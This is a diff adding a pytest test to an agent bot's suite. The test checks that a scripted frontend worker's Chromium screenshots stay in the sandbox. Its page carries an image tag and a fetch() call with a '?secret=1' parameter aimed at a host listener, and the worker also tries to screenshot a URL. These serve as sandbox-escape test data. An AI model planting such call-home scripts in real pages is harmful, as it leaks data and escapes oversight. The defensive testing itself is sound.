@@ -424,3 +424,33 @@ async def test_a_worker_cannot_choose_what_the_next_sandbox_binds(bot: BotHarnes
     assert not any("DB-READ: readable" in c for c in corrections), (
         "the bot's test run bound the folder the worker chose"
     )
+
+
+@pytest.mark.skipif(not shutil.which("chromium"), reason="chromium is not installed (apt-get install chromium)")
+async def test_a_screenshot_page_cannot_call_home(bot: BotHarness, model: ScriptedModel, listener: Listener) -> None:
+    """The frontend worker's Chromium runs in the task's sandbox: a page's script reaches no network, and a URL
+    target is refused rather than loaded outside the sandbox."""
+    page = (
+        f"<h1>Portfolio</h1><img src='http://127.0.0.1:{listener.port}/img.png'>"
+        f"<script>fetch('http://127.0.0.1:{listener.port}/?secret=1').catch(() => {{}})</script>"
+    )
+    work = claude_says.tool_use(
+        "start_task",
+        {"workspace": "group-therapy", "worker": "frontend", "instructions": "Build a page.", "background": True},
+    )
+    model.add("orchestrator", work, claude_says.text("ok"))
+    model.add(
+        "frontend",
+        claude_says.tool_use("write_file", {"path": "index.html", "content": page}),
+        claude_says.tool_use("screenshot", {"target": "index.html"}),
+        claude_says.tool_use("screenshot", {"target": f"http://127.0.0.1:{listener.port}/"}),
+        claude_says.text("Built the page."),
+    )
+    bot.say("build a page in group therapy")
+    await task_end(bot, 1, timeout=120)
+    photos = [m for m in bot.tg.messages(USER_ID) if m.kind == "photo"]
+    assert len(photos) == 2, "the page itself was rendered (desktop and phone)"
+    url_result = json.dumps(model.requests["frontend"][3]["messages"][-1]["content"])
+    assert "only files of the workspace" in url_result
+    await asyncio.sleep(0.5)
+    assert listener.connections == 0, "the page or the URL reached a listener on the host"
